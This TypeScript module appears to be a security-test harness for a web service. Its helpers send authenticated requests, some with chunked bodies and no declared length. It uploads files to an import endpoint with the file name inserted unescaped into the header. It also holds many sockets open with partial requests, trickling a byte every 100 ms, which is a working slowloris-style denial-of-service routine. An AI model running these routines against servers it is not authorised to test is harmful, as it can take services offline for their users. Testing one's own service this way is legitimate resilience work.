import { Agent, request } from 'node:http'
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'

/** What is attacked, and as whom. */
export interface Target {
  readonly address: string
  /** Header of somebody who may work in the project. */
  readonly authorization: string
  readonly caseId: string
  /** As many as are printed at once; see `makeLargestCases`. */
  readonly largestIds: readonly string[]
}

export interface Sent {
  readonly method: string
  readonly path: string
  readonly headers?: Readonly<Record<string, string>>
  readonly body?: Buffer
  /** Without a length: the server has to count. */
  readonly isChunked?: boolean
}

const PATIENCE_MS = 60_000
const agent = new Agent({ keepAlive: true })

/** Asks, and gives the status; whoever hangs up in the middle has answered too. */
export function askWith(
  { address, authorization }: Target,
  { method, path, headers, body, isChunked }: Sent
): Promise<string> {
  return new Promise((resolve) => {
    const length = isChunked || !body ? {} : { 'content-length': body.length }
    const sent = request(address + path, {
      ...{ method, agent, timeout: PATIENCE_MS },
      headers: { accept: 'application/json', authorization, ...headers, ...length },
    })
    sent.on('response', (response) => {
      let text = ''
      response.on('data', (chunk: Buffer) => (text = (text + String(chunk)).slice(0, 4000)))
      response.on('close', () => resolve(`${response.statusCode}${refusalIn(text)}`))
    })
    sent.on('timeout', () => sent.destroy())
    sent.on('error', () => resolve('hung up'))
    sent.end(body)
  })
}

/** The number with which the product refuses under 200, if it does. */
function refusalIn(text: string): string {
  const [, code] = /^\{"status":false,"code":(\d+)/.exec(text) ?? []
  return code === undefined ? '' : ` (${code})`
}

/** Sends a file to be imported. */
export function importFile(
  target: Target,
  { name, bytes }: { readonly name: string; readonly bytes: Buffer }
): Promise<string> {
  const head = `--x\r\ncontent-disposition: form-data; name="files"; filename="${name}"\r\n\r\n`
  const body = Buffer.concat([Buffer.from(head), bytes, Buffer.from('\r\n--x--\r\n')])
  const headers = { 'content-type': 'multipart/form-data; boundary=x' }
  return askWith(target, { method: 'POST', path: '/api/e2b/imports', headers, body })
}

/**
 * Keeps connections open and sends a byte over each ten times a second, opened again when they are
 * closed.
 * @param lines of the request as far as it gets at once
 */
export function holdOpen({ address }: Target, count: number, lines: readonly string[]) {
  const { hostname, port } = new URL(address)
  const open = new Set<Socket>()
  let ended = 0
  return async () => {
    while (open.size < count) {
      const socket = connect(Number(port), hostname)
      open.add(socket)
      socket.on('error', () => undefined).on('close', () => (open.delete(socket), ended++))
      socket.resume().write(lines.join('\r\n'))
    }
    for (const socket of open) socket.write('a')
    await sleep(100)
    return ended > 0 ? 'hung up' : 'nothing'
  }
}
